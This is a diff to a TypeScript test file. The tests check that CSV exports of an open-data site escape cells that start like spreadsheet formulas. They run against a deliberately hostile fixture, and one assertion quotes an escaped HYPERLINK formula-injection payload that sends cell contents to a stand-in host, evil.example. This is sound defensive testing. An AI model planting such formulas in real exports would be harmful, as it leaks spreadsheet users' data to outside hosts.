@@ -1,10 +1,27 @@
 /**
  * The open-data exports (src/lib/export.ts) on the small fixture site: one action record per
- * action with every field, one item record per entry and per lettered sub-item, CSV that reads back.
+ * action with every field, one item record per entry and per lettered sub-item, CSV that reads back;
+ * on the same site made hostile, CSV in which no cell starts like a formula (issue 19).
  */
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { CSV_COLUMNS, ITEM_FIELDS, itemRecords, parseCsv, toCsv, toRecord, itemsToCsv } from '../../src/lib/export.ts';
+import {
+  CSV_COLUMNS,
+  FOLLOW_UP_FIELDS,
+  ITEM_FIELDS,
+  OPEN_DATA_CSV,
+  followUpRecords,
+  followUpToCsv,
+  itemRecords,
+  itemsToCsv,
+  parseCsv,
+  tableToCsv,
+  toCsv,
+  toRecord,
+  type Table,
+} from '../../src/lib/export.ts';
+import { isFormulaStart } from '../../src/lib/csv.ts';
+import { ORDINARY, PAYLOADS, formulaCells, hostileFiles } from '../csv-payloads.ts';
 import { ACCORD, PLAN, fixtureCatalogue } from './catalogue-fixtures.ts';
 
 const catalogue = fixtureCatalogue();
@@ -118,4 +135,35 @@ test('item addresses: pages for entries, a fragment of the page for objectives a
     rows.map((row) => row[header.indexOf('url')]),
     urls,
   );
+});
+
+test('formula-safe: no cell of actions.csv, elements.csv or suivi.csv starts like a formula, and each reads back to the JSON values', () => {
+  const hostile = fixtureCatalogue(hostileFiles());
+  const actions = hostile.actions.map(toRecord);
+  const tables = {
+    actions: { csv: toCsv(actions), values: actions.map((r) => Object.values(CSV_COLUMNS).map((c) => c.value(r))) },
+    elements: { csv: itemsToCsv(itemRecords(hostile)), values: itemRecords(hostile).map((r) => ITEM_FIELDS.map((f) => r[f])) },
+    suivi: {
+      csv: followUpToCsv(followUpRecords(hostile.actions)),
+      values: followUpRecords(hostile.actions).map((r) => FOLLOW_UP_FIELDS.map((f) => r[f])),
+    },
+  };
+  for (const [name, { csv, values }] of Object.entries(tables)) {
+    // The fixture is hostile: values of each table start like a formula (else this test proves nothing).
+    assert.ok(values.flat().filter(isFormulaStart).length >= 3, `${name} : jeu d’essai sans formule`);
+    assert.deepEqual(formulaCells(csv, OPEN_DATA_CSV.separator), [], name);
+    assert.deepEqual(parseCsv(csv).slice(1), values, name);
+  }
+  // As written: one apostrophe more, quoted; a real leading apostrophe followed by "=" gets a second one.
+  assert.ok(tables.actions.csv.includes(`,"'=HYPERLINK(""http://evil.example/?q=""&A1,""Cliquez"")",`));
+  assert.ok(tables.actions.csv.includes(`,"''=1+1",`));
+  assert.ok(tables.suivi.csv.includes(`,'déjà cité',`), 'une apostrophe suivie de texte reste telle quelle');
+});
+
+test('formula-safe: tab, carriage return and full-width starts too, in any table the open data writes', () => {
+  const values = [...PAYLOADS, ...ORDINARY];
+  const table: Table = { header: ['valeur', 'double'], fields: [], rows: values.map((v) => [v, `${v}${v}`]) };
+  const csv = tableToCsv(table);
+  assert.deepEqual(formulaCells(csv, OPEN_DATA_CSV.separator), []);
+  assert.deepEqual(parseCsv(csv), [table.header, ...table.rows]);
 });
